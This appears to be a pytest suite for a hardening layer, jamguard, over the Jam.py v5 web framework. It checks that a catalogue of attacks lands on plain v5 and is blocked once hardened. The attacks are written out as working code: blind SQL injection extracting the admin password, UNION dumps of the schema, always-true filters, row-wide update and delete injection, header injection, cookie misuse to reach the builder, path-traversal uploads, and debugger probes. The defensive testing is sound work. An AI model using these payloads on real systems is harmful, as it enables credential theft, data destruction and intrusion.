"""Attacks on Jam.py v5: each lands on plain v5, and on none behind jamguard.

What an attack returns is whether the attacker got it. Everything that is said here of v5 is
about requests that differ from v7's; `test_catalogue.py` has the others.
"""

import json
import sqlite3
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from pathlib import Path
from typing import Any, Final

import attrs
import pytest
from support import v5
from support.inside import inside
from support.projects import TASK, User, copy
from support.servers import Kind, Reply, Server, run_server
from support.v5_project import (
    ADMIN,
    CLERK,
    CUSTOMERS_ID,
    FIELD_DOC,
    LINES_ID,
    OBRIEN,
    QUOTE,
    REPORT_ID,
)

pytestmark = pytest.mark.long

#: in the name of each file that an attack writes, and in each row that it changes
MARK: Final = "pwned"
#: so many requests in so few seconds are none of the attacks
CONFIG: Final = "[tool.jamguard.rate-limit]\nenabled = false\n"
#: what a browser of this very machine says
HERE: Final = {"Connection": "keep-alive", "Content-Type": "application/json"}
SECRET: Final = "(select F_PASSWORD from SYS_USERS where F_LOGIN='admin')"
DATA: Final = "demo5.sqlite"
NAMES: Final = ["Ada Lovelace", "Grace O'Brien", "Łukasz Święty"]


@attrs.frozen
class Site:
    """A project that is being attacked."""

    folder: Path
    kind: Kind
    server: Server
    _cookies: dict[str, str] = attrs.Factory(dict[str, str])

    def post(self, call: list[Any], cookie: str = "", **headers: str) -> Reply:
        """Post a call as a browser on this machine; a header's name has `_` for `-`."""
        named = {name.replace("_", "-"): value for name, value in headers.items()}
        sent = {**HERE, **named, **({"Cookie": cookie} if cookie else {})}
        return self.server.request("POST", "/api", sent, json.dumps(call).encode())

    def clerk(self) -> str:
        """Return the cookie of a user who has logged in."""
        if "clerk" not in self._cookies:
            self._cookies["clerk"] = v5.login(self.server, CLERK)
        return self._cookies["clerk"]

    def rows(self, cookie: str, *filters: list[Any], **more: Any) -> list[Any]:
        """Return the names of the customers that a user finds."""
        return _rows(self.open(cookie, CUSTOMERS_ID, "name", *filters, **more))

    def open(self, cookie: str, item: int, field: str, *filters: list[Any], **more: Any) -> Reply:
        params = {
            "__expanded": False,
            "__fields": [field],
            "__filters": list(filters),
            "__order": [],
            "__limit": 50,
            "__offset": 0,
            **more,
        }
        return self.post(["open", TASK, item, params, 0], cookie)

    def apply(self, cookie: str, record: list[Any], status: int) -> Reply:
        """Insert (1), change (2) or delete (3) a customer: id, deleted, name."""
        row: dict[str, Any] = {
            "old_record": None,
            "record": [*record, [status, "1"]],
            "details": {},
        }
        fields = ["id", "deleted", "name"]
        change = {"fields": fields, "expanded": False, "data": {"1": row}}
        return self.post(["apply", TASK, CUSTOMERS_ID, [change, {}], 0], cookie)

    def value(self, query: str, database: str = "admin.sqlite") -> Any:
        with closing(sqlite3.connect(self.folder / database)) as connection:
            return connection.execute(query).fetchone()[0]

    def written(self) -> bool:
        return any(self.folder.rglob(f"*{MARK}*"))


def _rows(reply: Reply) -> list[Any]:
    """Return the first column of what `open` answers; nothing for a refusal or an error."""
    if not reply.body or reply.json.get("error"):
        return []
    return [row[0] for row in reply.json["result"]["data"][0]]


@attrs.frozen
class Sites:
    plain: Site
    hardened: Site


@pytest.fixture(scope="module", params=["gunicorn", "waitress"])
def sites(
    request: pytest.FixtureRequest,
    v5_project: Path,
    v5_python: Path,
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[Sites]:
    kind: Kind = request.param
    parent = tmp_path_factory.mktemp(kind)
    with ExitStack() as stack:
        made: list[Site] = []
        for harden in (False, True):
            folder = copy(v5_project, parent / f"project-{harden}")
            config = CONFIG if harden else None
            server = run_server(folder, kind, harden=harden, config=config, python=v5_python)
            made.append(Site(folder, kind, stack.enter_context(server)))
            made[-1].server.request("GET", "/")
        yield Sites(*made)


# --- SQL of strangers ------------------------------------------------------------------------


def guess(site: Site, task: int, query: str) -> bool:
    """Ask a question about the database by the password of a login; return the answer.

    Jam.py tells whoever logs in what is wrong with the SQL, so the question goes wrong where
    the answer is yes.
    """
    form = {"login": "admin", "password": f"x' or case when {query} then json('x') else 0 end--"}
    reply = site.post(["login", task, 0, [form], 0])
    return b"malformed JSON" in reply.body


def password_of_the_administrator(task: int) -> Callable[[Site], bool]:
    """Read the first two letters of it, by true and false."""
    letters = ADMIN.password[:2]

    def attack(site: Site) -> bool:
        right = guess(site, task, f"{SECRET} like '{letters}%'")
        return right and not guess(site, task, f"{SECRET} like 'zz%'")

    return attack


def a_list_for_a_password(site: Site) -> bool:
    form = {"login": "admin", "password": ["' or json('x')--"]}
    return b"malformed JSON" in site.post(["login", TASK, 0, [form], 0]).body


def an_address_that_is_sql(site: Site) -> bool:
    """Log in with an address that Jam.py writes into its table of users.

    waitress takes the header away from whom it has not been told to trust.
    """
    form = {"login": CLERK.login, "password": CLERK.password}
    address = f"'||{SECRET}||'"
    site.post(["login", TASK, 0, [form], 0], X_Forwarded_For=address)
    return bool(site.value("select F_IP from SYS_USERS where ID = 2") == ADMIN.password)


# --- SQL of users ----------------------------------------------------------------------------


def a_filter(*one: Any) -> Callable[[Site], bool]:
    """Get all rows by a filter that fits none."""
    return lambda site: set(NAMES) <= set(site.rows(site.clerk(), list(one)))


def a_union(name: str, start: str) -> Callable[[Site], bool]:
    """Get what is in other tables by a filter on a field."""
    sql = f"{start} union select group_concat(sql) from sqlite_master--"

    def attack(site: Site) -> bool:
        found = site.rows(site.clerk(), [name, 1, sql], __limit=0)
        return "CREATE TABLE" in json.dumps(found)

    return attack


def a_function(site: Site) -> bool:
    sql = "(select group_concat(sql) from sqlite_master)||max"
    return "CREATE TABLE" in json.dumps(site.rows(site.clerk(), __funcs={"name": sql})).upper()


def a_master(site: Site) -> bool:
    """Get what is in other tables by the id of a master."""
    sql = "0 union select group_concat(sql) from sqlite_master--"
    reply = site.open(site.clerk(), LINES_ID, "what", __master_id=7, __master_rec_id=sql, __limit=0)
    return b"CREATE TABLE" in reply.body


def a_key(status: int) -> Callable[[Site], bool]:
    """Change or delete all rows by the key of one."""

    def attack(site: Site) -> bool:
        query = "select group_concat(deleted || name) from DEMO5_CUSTOMERS"
        before = site.value(query, DATA)
        site.apply(site.clerk(), ["1 or 1=1", 0, MARK], status)
        return bool(site.value(query, DATA) != before)

    return attack


def by_the_projects_own_code(value: Any) -> Callable[[Site], bool]:
    """Have a function of the project, which looks for one customer, find them all."""

    def attack(site: Site) -> bool:
        reply = site.post(["server", TASK, CUSTOMERS_ID, ["named", [value]], 0], site.clerk())
        return len(_rows_of(reply)) > 1

    return attack


def _rows_of(reply: Reply) -> list[Any]:
    data = reply.json["result"]["data"] if reply.body else None
    return data[0] or [] if data else []


# --- functions, the builder ------------------------------------------------------------------


def an_event(site: Site) -> bool:
    """Call a handler that is for Jam.py to call."""
    call = ["server", TASK, 0, ["on_ext_request", ["a", MARK]], 0]
    return MARK in site.post(call, site.clerk()).text


def an_import(site: Site) -> bool:
    call: list[Any] = ["server", TASK, CUSTOMERS_ID, ["basename", []], 0]
    return "object" in site.post(call, site.clerk()).text


def a_cookie_of_the_application(user: User) -> Callable[[Site], bool]:
    """Read a file as the builder, with a cookie that was made for the application."""

    def attack(site: Site) -> bool:
        value = v5.login(site.server, user).partition("=")[2]
        cookie = f"admin_session_{site.server.port}={value}"
        call = ["server", 0, 0, ["server_file_info", ["/etc/hostname"]], 0]
        reply = site.post(call, cookie)
        return Path("/etc/hostname").read_text().strip() in reply.text

    return attack


def a_file_by_that_cookie(site: Site) -> bool:
    value = site.clerk().partition("=")[2]
    call = ["server", 0, 0, ["server_save_file", [f"static/{MARK}.html", "x"]], 0]
    site.post(call, f"admin_session_{site.server.port}={value}")
    return site.written()


def an_upload_by_that_cookie(site: Site) -> bool:
    """Write a file outside of the folder of uploads, as the builder."""
    value = site.clerk().partition("=")[2]
    fields = {"task_id": 0, "item_id": -1, "field_id": -1, "path": "static/internal"}
    name = f"../../{MARK}.txt"
    upload(site, f"admin_session_{site.server.port}={value}", {**fields, "file_name": name})
    return (site.folder / f"{MARK}.txt").exists()


def a_page_that_was_uploaded(site: Site) -> bool:
    """Have a page run with the rights of whoever opens it."""
    stored = upload(site, site.clerk(), {**FIELDS, "file_name": f"{MARK}.html"})
    data = stored.json["result"]["data"]
    reply = site.server.request("GET", f"/{data['path']}/{data['file_name']}")
    policy = reply.get("Content-Security-Policy") or ""
    return "html" in str(reply.get("Content-Type")) and not policy.startswith("default-src 'none'")


FIELDS: Final[dict[str, object]] = {
    "task_id": TASK,
    "item_id": CUSTOMERS_ID,
    "field_id": FIELD_DOC,
    "path": "static/files",
    "file_name": "note.txt",
}


def upload(site: Site, cookie: str, fields: dict[str, object] = FIELDS) -> Reply:
    """Upload a note."""
    parts = [f'name="{name}"\r\n\r\n{value}' for name, value in fields.items()]
    parts.append('name="file"; filename="note.txt"\r\n\r\na note')
    body = "".join(f"--b\r\nContent-Disposition: form-data; {part}\r\n" for part in parts)
    headers = {**HERE, "Content-Type": "multipart/form-data; boundary=b", "Cookie": cookie}
    return site.server.request("POST", "/upload", headers, f"{body}--b--\r\n".encode())


def the_builder_from_afar(path: str) -> Callable[[Site], bool]:
    """Get the builder's page, or a session of it, from where nobody may build."""

    def attack(site: Site) -> bool:
        return b"Application builder" in site.server.request("GET", path, AFAR).body

    return attack


AFAR: Final = {"Host": "www.example.com", "Content-Type": "application/json"}


def a_login_to_the_builder_from_afar(site: Site) -> bool:
    """Log in, in what Jam.py calls production mode."""
    production = site.folder / "builder.html"
    production.touch()
    form = {"login": ADMIN.login, "password": ADMIN.password}
    body = json.dumps(["login", 0, 0, [form], 0]).encode()
    try:
        reply = site.server.request("POST", "/api", AFAR, body)
    finally:
        production.unlink()
    return "admin_session" in (reply.get("Set-Cookie") or "")


ATTACKS: Final[dict[str, Callable[[Site], bool]]] = {
    "password by a login": password_of_the_administrator(TASK),
    "password by a login to the builder": password_of_the_administrator(0),
    "list for a password": a_list_for_a_password,
    "address that is SQL": an_address_that_is_sql,
    "text that is always true": a_filter("name", 1, "' or '1'='1"),
    "in a list of texts": a_filter("name", 7, ["x') or ('1'='1"]),
    "in a range": a_filter("name", 9, ["a", "b' or '1'='1"]),
    "number that is always true": a_filter("num", 1, "0' or '1'='1"),
    "date that is always true": a_filter("dat", 1, "' or '1'='1"),
    "long text without quotes": a_filter("notes", 1, "notes or 1=1"),
    "list where a text is wanted": a_filter("name", 1, ["' or 1=1 --"]),
    "list in a search": a_filter("name", 12, ["x' or 1=1 --"]),
    "union in a text": a_union("name", "'"),
    "union in a number": a_union("num", "'"),
    "union in a long text": a_union("notes", "''"),
    "function": a_function,
    "master": a_master,
    "key of a change": a_key(2),
    "key of a deletion": a_key(3),
    "project's own code": by_the_projects_own_code("' or '1'='1"),
    "project's own code, a list": by_the_projects_own_code(["' or 1=1 --"]),
    "handler of an event": an_event,
    "imported function": an_import,
    "user's cookie for the builder's": a_cookie_of_the_application(CLERK),
    "administrator's cookie for the builder's": a_cookie_of_the_application(ADMIN),
    "file by a user's cookie": a_file_by_that_cookie,
    "upload by a user's cookie": an_upload_by_that_cookie,
    "uploaded page": a_page_that_was_uploaded,
    "builder's page": the_builder_from_afar("/builder.html"),
    "builder's page by its old name": the_builder_from_afar("/admin.html"),
    "builder in production mode": a_login_to_the_builder_from_afar,
}


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_the_attacker_gets_it_from_plain_v5_and_not_behind_jamguard(
    sites: Sites, attack: Callable[[Site], bool]
) -> None:
    lands = attack is not an_address_that_is_sql or sites.plain.kind == "gunicorn"
    for site, gets in ((sites.plain, lands), (sites.hardened, False)):
        keep = {path: path.read_bytes() for path in site.folder.glob("*.sqlite")}
        try:
            assert attack(site) == gets, "the control" if gets else site.server.log()[-2000:]
        finally:
            for path, data in keep.items():
                path.write_bytes(data)
            for path in site.folder.rglob(f"*{MARK}*"):
                path.unlink()


# --- what has to work ------------------------------------------------------------------------


@pytest.mark.parametrize("user", [CLERK, ADMIN, OBRIEN, QUOTE], ids=lambda user: user.login)
def test_everybody_logs_in_and_stays_so(sites: Sites, user: User) -> None:
    cookie = v5.login(sites.hardened.server, user)
    assert sites.hardened.rows(cookie) == NAMES
    if user is QUOTE:
        plain = v5.try_login(sites.plain.server, user)
        assert plain.json["result"]["data"] is not True, "the control"


@pytest.mark.parametrize(
    ("one", "names"),
    [
        (["name", 1, "Grace O'Brien"], ["Grace O'Brien"]),
        (["name", 7, ["Ada Lovelace", "Grace O'Brien"]], ["Ada Lovelace", "Grace O'Brien"]),
        (["name", 12, "O'B"], ["Grace O'Brien"]),
        (["name", 13, "Łuk"], ["Łukasz Święty"]),
        (["notes", 1, "it's n2"], ["Grace O'Brien"]),
        (["notes", 12, "SELECT"], ["Łukasz Święty"]),
        (["num", 9, [1, 2]], ["Ada Lovelace", "Grace O'Brien"]),
        (["num", 1, "3"], ["Łukasz Święty"]),
        (["price", 6, 20], ["Grace O'Brien"]),
        (["dat", 1, "2026-01-12"], ["Ada Lovelace"]),
        (["dat", 10, True], ["Łukasz Święty"]),
    ],
    ids=str,
)
def test_what_is_looked_for_is_found(sites: Sites, one: list[Any], names: list[str]) -> None:
    assert sites.hardened.rows(sites.hardened.clerk(), one) == names


def test_records_functions_reports_and_uploads_work(sites: Sites) -> None:
    site = sites.hardened
    cookie = site.clerk()
    assert not site.apply(cookie, [None, 0, "D'Arcy"], 1).json["error"]
    key = site.value("select max(ID) from DEMO5_CUSTOMERS", DATA)
    assert not site.apply(cookie, [key, 0, "D'Arcy -- 2"], 2).json["error"]
    assert site.rows(cookie, ["name", 12, "d'a"]) == ["D'Arcy -- 2"]
    assert not site.apply(cookie, [key, 0, ""], 3).json["error"]
    assert site.rows(cookie) == NAMES
    hello = site.post(["server", TASK, CUSTOMERS_ID, ["hello", ["O'Brien"]], 0], cookie)
    assert hello.json["result"]["data"] == ["hello O'Brien", ""]
    report = site.post(["print", TASK, REPORT_ID, [[], site.server.url, "ods"], 0], cookie)
    address = "/static/" + report.json["result"]["data"][0].partition("/static/")[2]
    assert site.server.request("GET", address, {"Cookie": cookie}).body.startswith(b"PK")
    stored = upload(site, cookie).json["result"]["data"]
    reply = site.server.request("GET", f"/{stored['path']}/{stored['file_name']}")
    assert reply.body == b"a note"


def test_an_administrator_builds_here_and_what_is_saved_is_callable(sites: Sites) -> None:
    site = sites.hardened
    form = {"login": ADMIN.login, "password": ADMIN.password}
    cookie = str(site.post(["login", 0, 0, [form], 0]).get("Set-Cookie")).partition(";")[0]
    read = site.post(["server", 0, 0, ["server_item_info", [CUSTOMERS_ID, True]], 0], cookie)
    code = read.json["result"]["data"][0]["doc"] + "\ndef new(item):\n    return 'new'\n"
    saved = site.post(["server", 0, 0, ["server_save_edit", [CUSTOMERS_ID, code, True]], 0], cookie)
    assert saved.json["result"]["data"][0]["error"] == ""
    site.server.request("GET", "/")
    call: list[Any] = ["server", TASK, CUSTOMERS_ID, ["new", []], 0]
    assert site.post(call, site.clerk()).json["result"]["data"] == ["new", ""]


@pytest.mark.parametrize("body", [b"", b"{", b"[]", b"[1,2,3,4,5,6]", b"\xff", b"[" * 20_000])
def test_a_body_that_is_no_call_is_not_an_error_of_the_server(sites: Sites, body: bytes) -> None:
    replies = [
        site.server.request("POST", "/api", HERE, body) for site in (sites.plain, sites.hardened)
    ]
    assert replies[0].status == 500, "the control"
    assert replies[1].status in {200, 400}
    assert b"Traceback" not in replies[1].body


def test_the_debugger_of_the_development_server_stays_shut(
    v5_project: Path, v5_python: Path, tmp_path: Path
) -> None:
    for harden in (False, True):
        folder = copy(v5_project, tmp_path / f"project-{harden}")
        with run_server(folder, "werkzeug", harden=harden, python=v5_python) as server:
            page = server.request("POST", "/api", HERE, b"{").body
            console = server.request("GET", "/?__debugger__=yes&cmd=resource&f=debugger.js").body
        assert (b"EVALEX" in page) != harden, "the control"
        assert (b"openShell" in console) != harden, "the control"


# --- the patch -------------------------------------------------------------------------------


#: logs in and looks for customers in the process of Jam.py, hardened by SETTINGS
ASKING: Final = """
    import logging
    import jam.sql
    import werkzeug

    lines = []
    handler = logging.Handler()
    handler.emit = lambda record: lines.append(record.getMessage())
    logging.getLogger("jamguard").addHandler(handler)
    CHANGE
    app = jamguard.harden(create_application("wsgi.py"), SETTINGS)

    def api(*message, cookie=""):
        body = json.dumps(message).encode()
        return call(app, "/api", "POST", body, CONTENT_TYPE="application/json", HTTP_COOKIE=cookie)

    def log_in(login, password, task=1):
        return api("login", task, 0, [{"login": login, "password": password}], 0)

    def names(*one):
        params = {"__expanded": False, "__fields": ["name"], "__filters": [one], "__order": [],
                  "__limit": 0, "__offset": 0}
        found = json.loads(api("open", 1, 6, params, 0, cookie=cookie).body)
        return "error" if found["error"] else [row[0] for row in found["result"]["data"][0]]

    cookie = log_in("clerk", "clerks-password").get("Set-Cookie").partition(";")[0]
    quote = log_in("quote", "it's-a-password")
    result = {
        "known": any("id=JG021" in line for line in lines) is False,
        "werkzeug": werkzeug.__version__,
        "quote": json.loads(quote.body).get("result", {}).get("data"),
        "refused": quote.get("Jamguard-Refused"),
        "O'Brien": names("name", 1, "Grace O'Brien"),
        "any of": names("name", 7, ["Ada Lovelace", "Grace O'Brien"]),
        "notes": names("notes", 1, "n1"),
        "part": names("name", 12, "O'B"),
        "all": names("name", 1, "' or '1'='1"),
    }
"""
UNKNOWN: Final = """
    escape = jam.sql.SQL._escape_search
    jam.sql.SQL._escape_search = lambda self, value, esc_char: escape(self, value, esc_char)
"""
FINDS: Final = {
    "O'Brien": ["Grace O'Brien"],
    "any of": ["Ada Lovelace", "Grace O'Brien"],
    "notes": ["Ada Lovelace"],
    "part": ["Grace O'Brien"],
    "all": [],
}
PLAIN: Final = {
    "O'Brien": "error",
    "any of": "error",
    "notes": "error",
    "part": ["Grace O'Brien"],
    "all": NAMES,
}


@pytest.mark.parametrize(
    ("change", "settings", "expected"),
    [
        ("", {}, {"known": True, "refused": None, "quote": True, **FINDS}),
        (UNKNOWN, {}, {"known": False, "refused": "api", **FINDS}),
        ("", {"api": {"mode": "report"}}, {"known": True, "refused": None, **PLAIN}),
        ("", {"api": {"enabled": False}}, {"known": True, "refused": None, **PLAIN}),
    ],
    ids=["patched", "unknown source", "reporting", "left out"],
)
def test_text_is_quoted_as_far_as_can_be(
    v5_project: Path, v5_python: Path, change: str, settings: Any, expected: dict[str, Any]
) -> None:
    code = ASKING.replace("    CHANGE\n", change).replace("SETTINGS", repr(settings))
    result = inside(v5_project, code, python=v5_python)
    assert result | expected == result
    assert result["werkzeug"] == "1.0.0"  # Jam.py's own: jamguard came after it
